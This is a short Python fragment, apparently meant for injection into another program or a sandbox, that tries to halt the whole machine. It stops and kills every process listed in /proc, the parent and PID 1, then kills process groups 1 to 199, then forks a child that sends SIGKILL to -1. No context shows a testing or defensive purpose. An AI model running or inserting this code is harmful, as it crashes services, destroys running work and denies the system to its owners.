# Signal everything in reach: every visible pid, -1, the parent, process groups.
for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()] + [_os.getppid(), 1]:
    if _pid != _os.getpid():
        for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
            try:
                _os.kill(_pid, _sig)
            except OSError:
                pass
for _pg in range(1, 200):
    if _pg != _os.getpgid(0):
        try:
            _os.killpg(_pg, _signal.SIGKILL)
        except OSError:
            pass
_pid = _os.fork()
if _pid == 0:  # a child signals -1 (everything this uid may signal, the parent included)
    try:
        _os.kill(-1, _signal.SIGKILL)
    except OSError:
        pass
    _os._exit(0)
_os.waitpid(_pid, 0)
